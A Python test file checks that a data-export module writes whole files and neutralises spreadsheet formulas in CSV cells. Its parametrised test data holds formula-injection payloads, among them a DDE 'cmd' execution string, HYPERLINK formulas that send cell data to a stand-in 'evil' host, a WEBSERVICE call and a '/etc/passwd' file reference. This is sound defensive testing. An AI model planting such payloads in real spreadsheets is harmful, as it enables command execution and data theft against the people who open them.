"""Files: whole or not at all, harmless in a spreadsheet and on a disk."""

import csv
import re
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from analysis.checks import InputError
from analysis.export import (
    hash_files,
    neutralise,
    table_writer,
    write_bytes,
    write_table,
)


@given(st.text(max_size=20))
def test_no_cell_begins_a_formula(cell: str) -> None:
    written = str(neutralise(cell))
    assert written.endswith(cell)
    starts = written[:1] in "\t\r\n" or written.lstrip()[:1] in "=+-@＝＋－＠"
    starts = starts and written.strip() != ""
    number_or_item = re.fullmatch(r"\s*[-+＋－]((\s.*)?|\s?\d[\d.,]*%?)", written, re.DOTALL)
    assert not starts or number_or_item


def test_written_cells(tmp_path: Path) -> None:
    table = pd.DataFrame({"=x": ["=1+1", "@a", None], "n": [-0.5, float("nan"), 2.0]})
    path = write_table(table, tmp_path / "t.csv")
    with path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert rows == [["'=x", "n"], ["'=1+1", "-0.5"], ["'@a", ""], ["", "2"]]


def test_nothing_half_written(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    write_bytes(path, b"before")
    with pytest.raises(RuntimeError), table_writer(path) as write:
        write(pd.DataFrame({"a": [1]}))
        raise RuntimeError
    assert path.read_bytes() == b"before"
    assert [file.name for file in tmp_path.iterdir()] == ["t.csv"]


def test_parquet_piece_by_piece(tmp_path: Path) -> None:
    pytest.importorskip("pyarrow")
    path = tmp_path / "t.parquet"
    with table_writer(path) as write:
        write(pd.DataFrame({"a": ["x"], "n": [1.0]}))
        write(pd.DataFrame({"a": ["y"], "n": [2.0]}))
    assert pd.read_parquet(path).to_numpy().tolist() == [["x", 1.0], ["y", 2.0]]


def test_other_kinds_of_file_are_refused(tmp_path: Path) -> None:
    with (
        pytest.raises(InputError, match="not a table it writes"),
        table_writer(tmp_path / "t.pickle"),
    ):
        pass


def test_hashes(tmp_path: Path) -> None:
    write_bytes(tmp_path / "b" / "x.txt", b"abc")
    table = hash_files(tmp_path)
    assert table["file"].tolist() == ["b/x.txt"]
    assert table["sha256"][0].startswith("ba7816bf")


def test_a_carriage_return_does_not_break_a_row(tmp_path: Path) -> None:
    path = write_table(
        pd.DataFrame({"a": ["Daily\r=1+1", "x\r\ny"], "n": [1, 2]}), tmp_path / "t.csv"
    )
    assert pd.read_csv(path)["a"].tolist() == ["Daily\n=1+1", "x \ny"]


def test_a_column_may_have_its_first_value_in_a_later_piece(tmp_path: Path) -> None:
    pytest.importorskip("pyarrow")
    pieces = [
        pd.DataFrame({"reason": pd.Series([], dtype=object)}),
        pd.DataFrame({"reason": [None]}),
    ]
    with table_writer(tmp_path / "t.parquet") as write:
        for piece in [*pieces, pd.DataFrame({"reason": ["empty"]})]:
            write(piece)
    reason = pd.read_parquet(tmp_path / "t.parquet")["reason"]
    assert reason.isna().tolist() == [True, False] and reason[1] == "empty"
    with table_writer(tmp_path / "none.parquet") as write:
        write(pieces[0])
    assert len(pd.read_parquet(tmp_path / "none.parquet")) == 0


@pytest.mark.parametrize("cell", ["\r=1+1", "\n=1+1", " =1+1", "＝1+1", "\r\n＠x"])
def test_a_formula_behind_a_break_or_in_wide_signs_is_none(tmp_path: Path, cell: str) -> None:
    path = write_table(pd.DataFrame({"a": [cell]}), tmp_path / "t.csv")
    assert pd.read_csv(path)["a"][0].startswith("'")


def test_a_time_that_is_missing_is_an_empty_cell(tmp_path: Path) -> None:
    times = pd.DataFrame({"a": pd.to_datetime(["2024-01-02", None]), "b": [1, 2]})
    written = write_table(times, tmp_path / "t.csv").read_text(encoding="utf-8")
    assert written == "a,b\n2024-01-02 00:00:00,1\n,2\n"


@pytest.mark.parametrize(
    "cell",
    [
        *("=1+1", "= 1", "@SUM(A1)", "\t=1", "\r=1", "\tx", "-2+3", "+cmd|' /C calc'!A0", "-A1"),
        *("- cmd|' /C calc'!A0", "- 2+3", "+ 1-1", "- =1", "- -A1", "+ @x", "-\t=1", "-\n+A1"),
        *('- HYPERLINK("http://x.example?"&A1,"y")', "- 1+SUM(A1:A9)", "-Tuesday", "＋1+1", "－A1"),
        *(
            " -A1",
            "\xa0=1",
            "-1-1",
            "+1,2+3",
            "- 1*2",
            "--1",
            "-(1)",
            '-"x"&A1',
            "+44 20 7946 0000",
        ),
        *('- HYPERLINK ("http://evil/?"&A1,"x")', '- WEBSERVICE ("http://e")', "- A1+B1"),
        *("+ [x.xls]S!A1", "+ 'file:///etc/passwd'#$passwd.A1", "- 'a b'.A1", "- Sheet1.A1"),
        *(
            "- a $B$2",
            "- a1",
            "- sum of r1c1",
            "- A:A",
            "- \uff33\uff35\uff2d\uff08\uff21\uff11\uff09",
            "- a{1}",
            "- x^2",
            "- a\n@b",
        ),
        *("- Tickets (from £12)", "- 40 = the number of shops", "- A | B", "- Victory at last!"),
    ],
)
def test_what_a_spreadsheet_would_run_has_an_apostrophe(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    [
        *(
            "- Tuesday 5 March: the vote",
            "+ one more thing",
            "-3.5",
            "+4",
            "-1,000.50",
            "-3%",
            "- 5",
        ),
        *("-1e-05", "-", "+", " - an item", "-\xa0an item", "– x"),
        *("- Ann Lee, 34, the city's mayor; 5% more", "- “No,” she said: at 8:30 a.m.", "- a\tb"),
        *(
            "- The 1990s’ well-known COVID-19 rules, 2024-25…",
            "- \u0939\u093f\u0928\u094d\u0926\u0940",
            "- 5km from St. Ives - by bus?",
        ),
        *("－ ein Punkt", "* x", "-\twords"),
        *("'=1", "x=1", "", " ", "“=1”", "1-2", "- e-mail: news@post.example", "- a\n- b"),
    ],
)
def test_what_a_spreadsheet_would_not_run_is_kept_to_the_letter(cell: str) -> None:
    assert neutralise(cell) == cell
